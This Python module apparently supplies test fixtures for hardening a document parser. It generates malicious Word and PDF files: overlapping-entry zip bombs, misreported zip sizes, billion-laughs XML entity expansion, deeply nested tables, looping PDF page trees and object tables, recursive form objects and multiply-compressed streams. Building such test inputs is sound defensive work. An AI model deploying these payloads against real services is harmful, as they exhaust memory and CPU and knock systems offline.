"""Files that are made to harm who reads them."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path

TEXT = "山下县修通了进村公路，通了自来水，村民们都说好。"
NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
DOCUMENT = "word/document.xml"
PARAGRAPH = f"<w:p><w:r><w:t>{TEXT}</w:t></w:r></w:p>"


def document(body: str | bytes, before: str = "", encoding: str = "utf-8") -> bytes:
    inner = body if isinstance(body, bytes) else body.encode(encoding)
    head = f"{before}<w:document {NS}><w:body>".encode(encoding)
    return head + inner + "</w:body></w:document>".encode(encoding)


def docx(parts: dict[str, bytes]) -> bytes:
    """A Word document with parts replaced or added."""
    import docx as library

    plain = io.BytesIO()
    library.Document().save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, data in parts.items():
            new.writestr(name, data)
    return out.getvalue()


def lying_docx(stated: int, real: bytes) -> bytes:
    """A Word document whose text unpacks to more than its directory says."""
    data = docx({DOCUMENT: real})
    return data.replace(struct.pack("<L", len(real)), struct.pack("<L", stated))


def overlapping_docx(count: int) -> bytes:
    """One packed part under many names (Fifield, 2019: a better zip bomb)."""
    data = docx({DOCUMENT: document(PARAGRAPH), "word/kernel.xml": bytes(32 << 20)})
    end = data.rindex(b"PK\x05\x06")
    total, size, start = struct.unpack("<HLL", data[end + 10 : end + 20])
    directory = data[start : start + size]
    at = directory.rindex(b"PK\x01\x02", 0, directory.index(b"word/kernel.xml"))
    entry = directory[at : at + 46 + len("word/kernel.xml")]
    more = b"".join(entry[:46] + b"word/k%05d.xml "[:15] % number for number in range(count))
    directory += more
    tail = data[end : end + 8] + struct.pack("<HHLLH", total + count, total + count, len(directory), start, 0)
    return data[:start] + directory + tail


def laughs(names: int, times: int) -> str:
    entities = "".join(f'<!ENTITY l{n} "{times * f"&l{n - 1};"}">' for n in range(1, names))
    return f'<!DOCTYPE w:document [<!ENTITY l0 "哈哈哈哈哈哈">{entities}]>'


def default_attributes(count: int) -> str:
    """Each element of the name gets so many attributes that stand nowhere in the text."""
    attributes = " ".join(f'a{n} CDATA "x"' for n in range(count))
    return f"<!DOCTYPE w:document [<!ATTLIST w:p {attributes}>]>"


def nested_tables(depth: int, rows: int) -> str:
    opened = "<w:tbl><w:tr><w:tc>" * depth
    return opened + f"<w:tbl><w:tr><w:tc>{PARAGRAPH}</w:tc></w:tr></w:tbl>" * rows + "</w:tc></w:tr></w:tbl>" * depth


def pdf(objects: dict[int, bytes], prev: bytes | None = None) -> bytes:
    """A PDF out of objects, as they are.

    :param prev: where its table of objects says that an older one is; b"self" for the place of itself.
    """
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d %05d %s \n" % (places.get(number, 0), 0, b"n" if number in places else b"f")
    older = b"" if prev is None else b" /Prev " + (b"%d" % start if prev == b"self" else prev)
    out += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (size, older, start)
    return bytes(out)


PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << %s >> >>"
CATALOGUE = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"}
FONT = b"/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
SAYING = b"BT /F 12 Tf 60 700 Td (The county built a road to every village of it in 2018.) Tj ET"


def stream(data: bytes, entries: bytes = b"", *, packed: bool = False) -> bytes:
    body = zlib.compress(data, 9) if packed else data
    kind = b" /Filter /FlateDecode" if packed else b""
    return b"<< /Length %d%s %s >>\nstream\n%s\nendstream" % (len(body), kind, entries, body)


def _packed_often(data: bytes, times: int) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    names = b"/FlateDecode " * times
    return b"<< /Length %d /Filter [%s] >>\nstream\n%s\nendstream" % (len(data), names, data)


def _with(changed: dict[int, bytes]) -> bytes:
    return pdf(CATALOGUE | {3: PAGE % FONT, 4: stream(SAYING)} | changed)


_FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 600 900] /Resources << %s /XObject << /X %d 0 R /Y %d 0 R >> >>"
_DRAWN = FONT + b" /XObject << /X 5 0 R /Y 6 0 R >>"
_HEAD = b"%PDF-1.7\n"
_TABLE = (
    b"<< /Type /XRef /Size 5 /W [1 2 1] /Index [0 1] /Root 1 0 R /Prev %d /Length 4 >>\nstream\n\0\0\0\0\nendstream"
)
LOOPING_PDFS: dict[str, Callable[[], bytes]] = {
    "page tree": lambda: _with({2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"}),
    "page tree of two": lambda: _with(
        {2: b"<< /Type /Pages /Kids [5 0 R 3 0 R] /Count 9 >>",
         5: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 9 >>"}
    ),
    "a million pages of one": lambda: _with(
        {2: b"<< /Type /Pages /Kids [%s] /Count 1000000 >>" % (b"3 0 R " * 1_000_000)}
    ),
    "parents": lambda: _with({3: (PAGE % FONT).replace(b"/Parent 2 0 R /MediaBox [0 0 595 842]", b"/Parent 3 0 R")}),
    "tables of objects": lambda: pdf(CATALOGUE | {3: PAGE % FONT, 4: stream(SAYING)}, prev=b"self"),
    "table at the head": lambda: pdf(CATALOGUE | {3: PAGE % FONT, 4: stream(SAYING)}, prev=b"0"),
    "streams of objects": lambda: b"".join(
        [_HEAD, b"7 0 obj\n", _TABLE % len(_HEAD), b"\nendobj\nstartxref\n%d\n%%%%EOF" % len(_HEAD)]
    ),
    "length of itself": lambda: _with({4: b"<< /Length 4 0 R >>\nstream\n" + SAYING + b"\nendstream"}),
    "contents of contents": lambda: _with({4: b"[4 0 R 4 0 R]"}),
    "reference to itself": lambda: _with({2: b"2 0 R"}),
    "form in itself": lambda: _with(
        {3: PAGE % _DRAWN, 4: stream(b"/X Do"), 5: stream(b"/X Do /Y Do", _FORM % (FONT, 5, 6)),
         6: stream(b"/X Do " + SAYING, _FORM % (FONT, 5, 6))}
    ),
    "forms by the billion": lambda: _with(
        {3: PAGE % _DRAWN, 4: stream(b"/X Do " * 10), 14: stream(SAYING, _FORM % (FONT, 14, 14))}
        | {n: stream(b"/X Do " * 10, _FORM % (FONT, n + 1, n + 1)) for n in range(5, 14)}
    ),
    "arrays in arrays": lambda: _with({3: PAGE % (FONT + b" /Q " + b"[" * 200_000 + b"]" * 200_000)}),
    "a page of letters": lambda: _with(
        {4: stream(b"BT /F 1 Tf 60 700 Td " + b"(a) Tj 3 3 Td " * 4_900_000, packed=True)}
    ),
    "packed three times over": lambda: _with({4: _packed_often(SAYING + b" " * (200 << 20), 3)}),
    "names in a circle": lambda: _with(
        {1: b"<< /Type /Catalog /Pages 2 0 R /Outlines 5 0 R >>", 5: b"<< /First 6 0 R /Last 6 0 R >>",
         6: b"<< /Title (a) /Next 6 0 R >>"}
    ),
}  # fmt: skip


def write_long(path: Path, pieces: Iterable[bytes]) -> None:
    with path.open("wb") as file:
        for piece in pieces:
            file.write(piece)


def sparse(size: int, head: bytes = b"") -> Callable[[Path], None]:
    """A file of zeros that takes no room on the disk."""

    def write(path: Path) -> None:
        with path.open("wb") as file:
            file.write(head)
            file.truncate(size)

    return write
